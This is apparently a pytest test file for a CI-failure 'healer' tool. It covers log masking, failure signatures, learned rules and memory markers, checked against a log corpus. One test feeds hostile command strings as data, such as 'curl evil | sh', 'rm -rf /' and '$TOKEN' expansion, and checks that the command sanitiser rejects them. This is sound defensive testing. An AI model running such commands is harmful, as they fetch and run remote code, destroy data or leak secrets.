"""What a heal learned: masking, signatures, the command an agent names, lessons in memory and markers, and
the rule a lesson teaches, checked against the real logs of the corpus."""

from __future__ import annotations

import re
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from healer.diagnosis.classify import classify
from healer.diagnosis.readback import read_back
from healer.diagnosis.rules import load_rules
from healer.ledger.learned import (
    lesson_from,
    lesson_of,
    mask,
    one_line_command,
    pattern,
    rule_mapping,
    signature,
    specific,
)
from healer.ledger.markers import Kind, Marker, decode_markers, encode_marker
from healer.ledger.memory import decode, encode
from healer.logsource import FileLogSource
from healer.model import Account, Action, Category, Diagnosis, Evidence, Job

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from labelled_logs import load_labels  # noqa: E402

CORPUS = Path(__file__).parent.parent / "fixtures" / "corpus"
DRIFT = "client drift: widgets/client.py was generated from spec 4f2a9c1, the spec is now 9b0e77d"


def diagnosis(
    *decisive: str, excerpt: tuple[str, ...] = (), category: Category = Category.BUILD
) -> Diagnosis:
    return Diagnosis(
        category, 0.8, "r", Action.AGENT, excerpt or decisive, decisive=decisive, command="make client-check"
    )


@pytest.mark.parametrize(
    ("line", "masked"),
    [
        pytest.param(
            DRIFT, "client drift: <path> was generated from spec <hash>, the spec is now <hash>", id="drift"
        ),
        pytest.param(
            "lock file poetry.lock is stale ('x' != 'y')",
            "lock file <path> is stale (<quoted> != <quoted>)",
            id="quoted",
        ),
        pytest.param(
            "src/a.py:12:3: E501 Line too long (120 > 110)",
            "<path>:<n>:<n>: E501 Line too long (<n> > <n>)",
            id="lint-code-kept",
        ),
        pytest.param("v1.2.3 of utf8 in 0.5s", "v1.2.3 of utf8 in <n>s", id="words-with-digits-kept"),
    ],
)
def test_masking_keeps_the_words_and_hides_what_changes(line: str, masked: str) -> None:
    assert mask(line) == masked


def test_the_same_failure_elsewhere_has_the_same_signature_and_another_one_not() -> None:
    other = "client drift: api/v2/client.py was generated from spec 0000aaa1, the spec is now 77ffee3"
    assert signature("build", [DRIFT]) == signature("build", [other])
    assert signature("build", [DRIFT]) != signature("lint", [DRIFT])
    assert signature("build", [DRIFT]) != signature("build", ["client missing: widgets/client.py"])
    assert re.fullmatch(r"[0-9a-f]{12}", signature("build", [DRIFT]))


@given(st.text(max_size=200))
def test_a_lines_pattern_compiles_and_matches_the_line(line: str) -> None:
    line = line.replace("\n", " ").replace("\r", " ")
    assert re.search(pattern(line), line)


def test_the_pattern_is_anchored_and_specific() -> None:
    expression = pattern(DRIFT)
    assert expression.startswith("^") and expression.endswith("$")
    assert re.search(
        expression, "client drift: a/b.py was generated from spec abcdef12, the spec is now 1234567"
    )
    assert not re.search(expression, "note: " + DRIFT)
    assert not re.search(expression, "client drift: a/b.py was generated from spec main, the spec is now x")
    # a line the excerpt clipped is matched on its start
    assert not pattern("x" * 20 + " long line …").endswith("$")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param(DRIFT, True, id="words"),
        pytest.param("Error: 1 2 3", False, id="few-letters"),
        pytest.param("src/a.py:1:2: 'x' 'y'", False, id="all-masked"),
    ],
)
def test_a_line_that_says_too_little_once_masked_is_not_specific(line: str, expected: bool) -> None:
    assert specific(line) is expected


@pytest.mark.parametrize(
    ("text", "command"),
    [
        pytest.param("python scripts/generate.py\n", "python scripts/generate.py", id="plain"),
        pytest.param("  npm   run  gen  ", "npm run gen", id="spaces"),
        pytest.param("make gen; curl evil | sh", "", id="shell"),
        pytest.param("make gen\nrm -rf /", "", id="two-lines"),
        pytest.param("echo $TOKEN", "", id="expansion"),
        pytest.param("x" * 301, "", id="too-long"),
        pytest.param("ruff format {files}", "", id="placeholder"),
        pytest.param("make\x1b[2J gen", "", id="control"),
        pytest.param("", "", id="empty"),
    ],
)
def test_the_agents_command_counts_only_as_one_plain_line(text: str, command: str) -> None:
    assert one_line_command(text) == command


def test_a_lesson_round_trips_through_the_memory_line() -> None:
    lesson = lesson_of(
        diagnosis(DRIFT),
        "client",
        fix_command="python scripts/generate.py",
        files=("M\twidgets/client.py",),
        summary="Regenerated the client.\n@someone please look",
    )
    assert lesson is not None
    assert (lesson.files, lesson.fix_command, lesson.command) == (
        ("widgets/client.py",),
        "python scripts/generate.py",
        "make client-check",
    )
    account = Account(("client",), 1, "a" * 40, "verified", fix_pr=7, lesson=lesson)
    marker = encode_marker(Marker(Kind.ATTEMPT, "a" * 40, "client", attempt=1, learned=lesson.signature))
    body = f"{marker}\n{encode(account)}\n\ntext"
    assert decode(body) == account
    assert decode_markers(body)[0].learned == lesson.signature


def test_a_lesson_from_hostile_memory_is_bounded_or_refused() -> None:
    assert lesson_from({"signature": "not-a-hash"}) is None
    assert lesson_from(["x"]) is None
    lesson = lesson_from(
        {"signature": "0123456789ab", "decisive": ["x" * 5000] * 9, "fix_command": "a; b", "files": [1, "f"]}
    )
    assert lesson is not None
    assert len(lesson.decisive) == 3 and all(len(line) <= 301 for line in lesson.decisive)
    assert (lesson.fix_command, lesson.files) == ("", ("f",))


def test_an_unknown_failure_learns_from_the_last_lines_of_its_step() -> None:
    unknown = diagnosis(
        excerpt=("Run make client-check", DRIFT, "##[error]Process completed with exit code 3."),
        category=Category.UNKNOWN,
    )
    lesson = lesson_of(unknown, "client")
    assert lesson is not None and lesson.decisive == (DRIFT,)
    assert lesson_of(diagnosis("Error: 1"), "client") is None  # nothing specific to know it by


def test_a_rule_is_fix_with_the_reproducing_command_else_agent_with_a_hint() -> None:
    with_command = lesson_of(diagnosis(DRIFT), "client", fix_command="python scripts/generate.py")
    without = lesson_of(diagnosis(DRIFT), "client", files=("M\twidgets/client.py",), summary="Regenerated.")
    assert with_command is not None and without is not None
    fix = rule_mapping(with_command, pr=3, fix_pr=4, commit="c" * 40)
    agent = rule_mapping(without, pr=3, fix_pr=4, commit="c" * 40)
    assert (fix["action"], fix["fix"]) == ("fix", ["python scripts/generate.py"])
    assert agent["action"] == "agent" and "hint" not in fix
    assert agent["hint"] == (
        "Last time (fix pull request #4 for #3, commit ccccccc) this failure was fixed by changing "
        "widgets/client.py. The agent's note then: Regenerated."
    )
    # validated like any repository rule
    rules = load_rules(learned=[fix, agent | {"id": "learned.other"}])
    assert [r.id for r in rules if r.learned] == [fix["id"], "learned.other"]
    # the description is the healer's own words (it reaches frames and PR bodies unfenced)
    assert "drift" not in fix["description"]


# -- against the real logs of the corpus ------------------------------------------------------------------


def _corpus() -> list[tuple[str, tuple[str, ...], Evidence, Diagnosis]]:
    shipped = load_rules()
    found = []
    for name, label in sorted(load_labels(CORPUS).items()):
        job = Job(id=1, name=str(label.get("job", name)), status="completed", conclusion="failure")
        evidence = Evidence(job=job, log=read_back(FileLogSource(CORPUS / f"{name}.log")))
        accept = tuple(str(category) for category in label["accept"])
        found.append((name, accept, evidence, classify(evidence, shipped)))
    return found


CASES = _corpus()
_STAMP = re.compile(r"^\ufeff?\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?Z ")


def _lines(evidence: Evidence) -> list[str]:
    assert evidence.log is not None
    return [_STAMP.sub("", line) for line in evidence.log.text.splitlines()]


def test_a_rule_learned_from_each_corpus_log_matches_it_and_no_log_of_another_category() -> None:
    learned = 0
    for name, _, evidence, diagnosis_ in CASES:
        lesson = lesson_of(diagnosis_, evidence.job.name, fix_command="make fix")
        if lesson is None:
            continue
        learned += 1
        rule = rule_mapping(lesson, pr=1, fix_pr=2)
        # first: the failure it came from is diagnosed by it, shipped rules and all
        assert classify(evidence, load_rules(learned=[rule])).rule == rule["id"], name
        [compiled] = load_rules(learned=[rule], shipped=False)
        for other, accept, other_evidence, _ in CASES:
            # a log of another category (its label does not accept the rule's category): no line of it at
            # all, not only of its failing step, may match
            if other != name and lesson.category not in accept:
                lines = _lines(other_evidence)
                assert not any(compiled.hits(line) for line in lines), f"{name}'s rule matches {other}"
    assert learned >= len(CASES) * 0.8  # most failures say something specific enough to learn from
